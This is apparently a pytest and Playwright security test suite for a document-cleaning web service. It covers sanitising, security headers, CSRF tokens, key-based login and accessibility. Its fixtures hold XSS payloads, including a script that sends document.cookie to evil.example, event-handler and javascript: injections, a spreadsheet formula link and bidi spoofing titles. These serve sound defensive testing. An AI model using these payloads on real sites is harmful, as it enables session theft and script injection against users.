"""Safe: nothing of a document runs, forms of other sites change nothing, keys, any path, faults of accessibility."""

from __future__ import annotations

import re
import socketserver
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler
from typing import Any

import httpx
import pytest
from browsing import Tab
from service_process import PLAIN, RunningService

KEY = "a-key-that-is-long-enough"
PATIENT = {"timeout": 90, **PLAIN}  # a busy machine may take more than the five seconds that httpx waits
HOSTILE = """<!doctype html><html><head><title>\u202eevil\x1b[31m</title><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
<script>document.title = 'ran'; fetch('https://evil.example/' + document.cookie)</script></head>
<body onload="alert(1)"><article><p onclick="alert(2)">A paragraph that is long enough to stay, with
<img src=x onerror="alert(3)"> a picture and <a href="javascript:alert(4)">a link</a>, as people write them.</p>
<p>Another one &lt;script&gt;alert(5)&lt;/script&gt; {{ 7 * 7 }} that talks about markup and does not mean it, ever.</p>
<svg onload="alert(6)"><a xlink:href="javascript:alert(7)"><text>go</text></a></svg>
<iframe srcdoc="<script>alert(8)</script>"></iframe>
<form action="https://evil.example/"><input name=token><button formaction="javascript:alert(9)">send</button></form>
<style>@import 'https://evil.example/y.css'; .cleaner-removed { position: fixed; inset: 0 }</style>
<p class="cleaner-removed" title="spoof">A third paragraph says that it was removed, and it was not, so it stays.</p>
</article></body></html>"""


def test_u01_nothing_of_a_hostile_page_runs(tab: Tab, service: RunningService) -> None:
    """In any view no script runs, nothing is loaded from elsewhere, no element of the page stands in ours."""
    tab.expected.append("404")  # a frame seen alone has no icon
    tab.give(HOSTILE)
    document = tab.page.url
    for view in ("", "?view=side", "?view=page", "?block=0", "/evidence", "/frame"):
        tab.page.goto(document + view, wait_until="networkidle")
        foreign = "main img, main svg:not(.bar), main form[action*=evil], [onclick], [onload]"
        assert tab.page.locator(foreign).count() == 0
        scripts = tab.page.locator("script").evaluate_all("all => all.map(one => one.src.split('/').pop())")
        assert scripts == ([] if view in {"/frame", "/evidence"} else ["app.js", "look.js"])
    assert [url for url in tab.asked if not url.startswith(service.url)] == []
    tab.page.goto(document)
    assert "<script>alert(5)</script> {{ 7 * 7 }}" in tab.page.locator("#blocks").inner_text()
    assert tab.page.locator("#blocks a[href^='http'], #blocks a[href^='javascript']").count() == 0
    tab.page.goto(document + "?view=page")
    frame = tab.page.frame_locator(".frame")
    frame.get_by_text("A third paragraph").wait_for()
    assert frame.locator(".cleaner-removed", has_text="A third paragraph").count() == 0
    assert frame.locator("script, style, form, body [href], [src], [srcdoc]").count() == 0
    title = tab.page.locator("h1 bdi").inner_text()
    assert "\u202e" not in title
    assert "\x1b" not in title


LINKS = """<!doctype html><html><head><title>Links</title></head><body><article>
<p>The <a href="https://example.org/a">council</a> met on <a href="/b" target=_blank rel=opener>Monday</a> to talk
about the <a href="javascript:alert(1)">harbour wall</a>, which had begun to lean, as the
<a href=" jAvA\tscript:alert(2)">office</a> said.</p>
<p>It <a href="data:text/html,<script>alert(3)</script>">published</a> a <a href="vbscript:x">plan</a> and a
<a href="//example.org/c">map</a>; questions go to <a href="mailto:wall@example.org">the clerk</a> until Friday.</p>
</article></body></html>"""


def test_u03_links_lead_to_the_web_and_are_marked(tab: Tab) -> None:
    """Those of a body as HTML, and the one from a document's page to where it came from."""
    item = {"html": LINKS, "source_url": "https://example.org/minutes"}
    job = tab.page.request.post("/v1/jobs", data=item, headers={"prefer": "wait=60"}).json()
    tab.page.goto(f"/documents/{job['result']['source_id']}")
    body = tab.page.request.get(f"{tab.page.url}/as/html").text()
    links = re.findall(r"<a ([^>]*)>", body)
    addresses = [re.search(r'href="([^"]*)"', one)[1] for one in links if "href" in one]
    assert addresses == [
        "https://example.org/a",
        "https://example.org/b",
        "https://example.org/c",
        "mailto:wall@example.org",
    ]
    assert all('rel="noopener nofollow noreferrer"' in one for one in links)
    outside = tab.page.locator("a[href^='http']")
    assert outside.evaluate_all("all => all.map(one => [one.href, one.rel])") == [
        ["https://example.org/minutes", "noopener nofollow noreferrer"]
    ]


TITLES = {
    "turned": "\u202egnihsilbup\u202c \u2066of\u2069 the quay",
    "coloured": "\x1b[31mThe quay\x1b[0m\r\nis closed",
    "arabic": "الميناء القديم يغلق يوم الاثنين",
    "formula": '=HYPERLINK("https://evil.example/")',
    "markup": "</title><img src=x onerror=alert(1)><bdo dir=rtl>The quay",
    "combined": "The q" + "u\u0301" * 400 + "ay",
    "unbroken": "x" * 1_000,
}


def test_u05_a_title_of_any_kind_is_isolated(tab: Tab) -> None:
    """On every page that names a document; nothing sticks out of the page's width, no direction leaks."""
    places = []
    for kind, title in TITLES.items():
        item = {"text": f"The quay was closed on Monday, the office said of it, {kind}.", "title": title}
        job = tab.page.request.post("/v1/jobs", data=item, headers={"prefer": "wait=60"}).json()
        judged = {"source_id": job["result"]["source_id"], "block": 0, "judgement": "remove", "reason": title[:900]}
        assert tab.page.request.post("/v1/feedback", data=judged).status == 201
        places.append(f"/documents/{job['result']['source_id']}")
    for place in (*places, "/", "/documents", "/jobs", "/feedback"):
        tab.page.goto(place)
        words = tab.page.locator("body").inner_text()
        assert not re.search("[\u202a-\u202e\u2066-\u2069\x1b\r]", words), place
        assert tab.page.locator("main img, main bdo").count() == 0, place
        assert tab.page.evaluate("document.documentElement.scrollWidth <= innerWidth"), place
        if place in places:
            assert tab.page.locator("h1 > bdi").count() == 1
            assert len(tab.page.locator("h1").inner_text()) <= 300
            assert tab.page.locator(".b .act").first.is_visible()


def test_u05_a_title_of_a_megabyte_is_cut(tab: Tab) -> None:
    """And the page stays usable."""
    job = tab.page.request.post(
        "/v1/jobs", data={"html": f"<title>{'x' * 1_000_000}</title><p>A short paragraph that stays as it is."},
        headers={"prefer": "wait=60"},
    ).json()  # fmt: skip
    tab.page.goto(f"/documents/{job['result']['source_id']}")
    assert len(tab.page.locator("h1").inner_text()) <= 300
    assert len(tab.page.content()) < 100_000


@pytest.mark.parametrize("path", ["/", "/documents", "/jobs", "/feedback", "/docs", "/login", "/static/app.js", "/no"])
def test_u02_every_page_carries_the_safe_headers(service: RunningService, path: str) -> None:
    """A policy without anything inline, no sniffing, no framing, no referrer, UTF-8."""
    answer = httpx.get(service.url + path, headers={"accept": "text/html"}, **PATIENT)
    policy = answer.headers["content-security-policy"]
    assert policy.startswith("default-src 'none'")
    assert "unsafe" not in policy
    assert "frame-ancestors 'none'" in policy
    assert (answer.headers["x-content-type-options"], answer.headers["referrer-policy"]) == ("nosniff", "no-referrer")
    assert "charset=utf-8" in answer.headers["content-type"] or "json" in answer.headers["content-type"]


@pytest.mark.parametrize("path", ["/no", "/no/such/place", "/jobs/x", "/documents/0", "/submit"])
def test_a_browser_is_told_of_errors_by_pages(service: RunningService, path: str) -> None:
    """A browser gets a page with the way back, a program a problem document; below /v1 everybody does."""
    page = httpx.get(service.url + path, headers={"accept": "text/html,*/*;q=0.8"}, **PATIENT)
    assert page.status_code in {404, 405}
    assert 'id="problem"' in page.text
    assert "Clean something else" in page.text
    under = httpx.get(f"{service.url}/v1{path}", headers={"accept": "text/html"}, **PATIENT)
    assert under.headers["content-type"] == "application/problem+json"


def test_a_browser_is_told_of_a_foreign_name_by_a_page(service: RunningService) -> None:
    """What the gate refuses before anything is read is a page too."""
    foreign = httpx.get(service.url, headers={"accept": "text/html", "host": "evil.example"}, **PATIENT)
    assert foreign.status_code == 400
    assert 'id="problem"' in foreign.text
    assert "this host name is not served here" in foreign.text


def token_of(client: httpx.Client) -> str:
    """The token in the forms that this client is given."""
    found = re.search(r'name="token" value="([^"]+)"', client.get("/").text)
    assert found is not None
    return found[1]


@pytest.mark.parametrize("path", ["/submit", "/jobs/x/cancel", "/feedback/x/undo", "/documents/x/feedback", "/logout"])
def test_u04_a_form_without_its_token_changes_nothing(service: RunningService, path: str) -> None:
    """Without one, with another browser's, or with a cookie alone: 403."""
    with service.client() as mine, service.client() as other:
        token, foreign = token_of(mine), token_of(other)
        assert token != foreign
        for given in ({}, {"token": foreign}, {"token": ""}):
            assert mine.post(path, data={"input": "text", **given}).status_code == 403
        assert mine.post(path, data={"input": "text", "token": token}).status_code != 403


@pytest.mark.parametrize(
    "headers",
    [
        {"sec-fetch-site": "cross-site"},
        {"sec-fetch-site": "same-site"},
        {"origin": "https://evil.example"},
        {"origin": "null"},
    ],
)
@pytest.mark.parametrize("path", ["/submit", "/v1/jobs", "/v1/clean", "/v1/feedback"])
def test_u04_another_site_changes_nothing(service: RunningService, path: str, headers: dict[str, str]) -> None:
    """Whatever the browser would send along: 403 before anything is read."""
    answer = httpx.post(
        service.url + path, content="A text.", headers={"content-type": "text/plain", **headers}, **PATIENT
    )
    assert answer.status_code == 403


def test_u04_nothing_changes_by_reading(service: RunningService) -> None:
    """Forms' addresses answer a GET with 405, or with a page that changes nothing."""
    with service.client() as client:
        for path in ("/submit", "/logout", f"/documents/{'0' * 24}/feedback", "/jobs/x/retry", "/batches/x/cancel"):
            assert client.get(path).status_code == 405


@pytest.fixture(scope="module")
def keyed(browser: Any) -> Iterator[RunningService]:
    """A service that wants keys."""
    keys = f"me:{KEY},you:{KEY}-of-you"
    with RunningService({"CLEANER_API_KEYS": keys}, pool=1) as running:
        yield running


def test_behind_a_key(open_tab: Callable[..., Tab], keyed: RunningService) -> None:
    """A browser is asked for its key once, is led to where it was going, and out again."""
    tab = open_tab(url=keyed.url)
    tab.expected.append("401")  # the answer to a wrong key
    tab.page.goto("/jobs?status=failed")
    tab.page.wait_for_url("**/login?to=*")
    tab.page.get_by_label("API key").fill("wrong")
    tab.page.get_by_role("button", name="Sign in").click()
    tab.page.get_by_text("That is not a key").wait_for()
    tab.page.get_by_label("API key").fill(KEY)
    tab.page.get_by_role("button", name="Sign in").click()
    tab.page.wait_for_url("**/jobs?status=failed")
    session = next(one for one in tab.context.cookies() if one["name"] == "cleaner_session")
    assert (session["httpOnly"], session["sameSite"]) == (True, "Strict")
    assert KEY not in session["value"]
    tab.give("A text that belongs to me, and to nobody else who has a key of this service.")
    mine = tab.page.url
    yours = httpx.get(mine, headers={"x-api-key": f"{KEY}-of-you"}, **PATIENT)
    assert yours.status_code == 404
    assert httpx.get(mine, headers={"x-api-key": KEY}, **PATIENT).status_code == 200
    tab.page.get_by_role("button", name="Sign out").click()
    tab.page.wait_for_url("**/login")
    tab.page.goto(mine)
    tab.page.wait_for_url("**/login?to=documents*")


def test_a_session_of_another_key_or_time_is_none(keyed: RunningService) -> None:
    """A forged, changed or foreign cookie is no key."""
    for value in ("", "x", f"{'0' * 16}.9999999999.{'0' * 64}", f"{'0' * 16}.1.{'0' * 64}"):
        answer = httpx.get(f"{keyed.url}/v1/jobs", cookies={"cleaner_session": value}, **PATIENT)
        assert answer.status_code == 401


@contextmanager
def proxy(target: str, prefix: str) -> Iterator[str]:
    """A proxy that serves `target` below `prefix`, which it strips; the root's address."""

    class Handler(BaseHTTPRequestHandler):
        def forward(self) -> None:
            if not self.path.startswith(prefix + "/"):
                self.send_error(404)
                return
            body = self.rfile.read(int(self.headers.get("content-length", 0)))
            headers = {name: value for name, value in self.headers.items() if name.lower() != "connection"}
            answer = httpx.request(
                self.command, target + self.path.removeprefix(prefix), headers=headers, content=body, **PATIENT
            )
            self.send_response(answer.status_code)
            for name, value in answer.headers.multi_items():
                if name not in {"content-length", "transfer-encoding", "content-encoding", "connection"}:
                    self.send_header(name, value)
            self.send_header("content-length", str(len(answer.content)))
            self.end_headers()
            self.wfile.write(answer.content)

        do_GET = do_POST = forward  # noqa: N815 - http.server's names

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    class Server(socketserver.ThreadingTCPServer):
        allow_reuse_address = daemon_threads = True
        request_queue_size = 128

    with Server(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}{prefix}"
        server.shutdown()


def test_below_a_path_and_behind_a_key(open_tab: Callable[..., Tab], keyed: RunningService) -> None:
    """Every link, form, file and redirect stays below the prefix."""
    with proxy(keyed.url, "/tools/cleaner") as root:
        tab = open_tab(url=root)
        tab.page.goto(f"{root}/")
        tab.page.wait_for_url("**/tools/cleaner/login?to=")
        tab.page.get_by_label("API key").fill(KEY)
        tab.page.get_by_role("button", name="Sign in").click()
        tab.page.get_by_role("button", name="A news page").click()
        tab.page.wait_for_url("**/tools/cleaner/documents/*")
        tab.page.get_by_role("link", name="Side by side").click()
        tab.page.locator(".after").first.wait_for(state="attached")
        gone = tab.page.locator(".b.gone").first
        gone.hover()
        gone.get_by_role("button").click()
        tab.page.locator(".b.hand").first.wait_for()
        for name, place in (
            ("Jobs", "jobs"), ("Feedback", "feedback"), ("Documents", "documents"), ("API", "docs"), ("Clean", "")
        ):  # fmt: skip
            tab.page.get_by_role("link", name=name, exact=True).click()
            tab.page.wait_for_url(f"{root}/{place}")
        tab.page.wait_for_load_state("networkidle")
        assert all(url.startswith(root) for url in tab.asked)
        tab.page.goto("about:blank")  # nothing may be on its way when the proxy ends


PLACES = ("/", "/jobs", "/documents", "/feedback", "/docs", "/login", "/documents/0")


@pytest.mark.parametrize("place", [*PLACES, "document", "side", "page"])
def test_axe_finds_no_serious_fault(open_tab: Callable[..., Tab], place: str) -> None:
    """Contrast, names, roles, order of headings: nothing serious or critical on any page, light or dark."""
    axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="axe-playwright-python is not installed")
    tab = open_tab(viewport={"width": 1280, "height": 900}, bypass_csp=True)
    tab.expected.append("404")  # one of the pages says that there is no such document
    if place in PLACES:
        tab.page.goto(place)
    else:
        tab.page.goto("/")
        tab.page.get_by_role("button", name="A news page").click()
        tab.page.wait_for_url("**/documents/*")
        if place == "document":
            tab.page.locator(".b.gone").first.click()
            tab.page.locator("#why table").wait_for()
        else:
            tab.page.goto(f"{tab.page.url}?view={place}")
    serious = []
    for scheme in ("light", "dark"):
        tab.page.emulate_media(color_scheme=scheme)
        serious += [
            f"{scheme}: {one['id']}: {[node['html'][:120] for node in one['nodes'][:3]]}"
            for one in axe.Axe().run(tab.page).response["violations"]
            if one["impact"] in {"serious", "critical"}
        ]
    assert serious == []
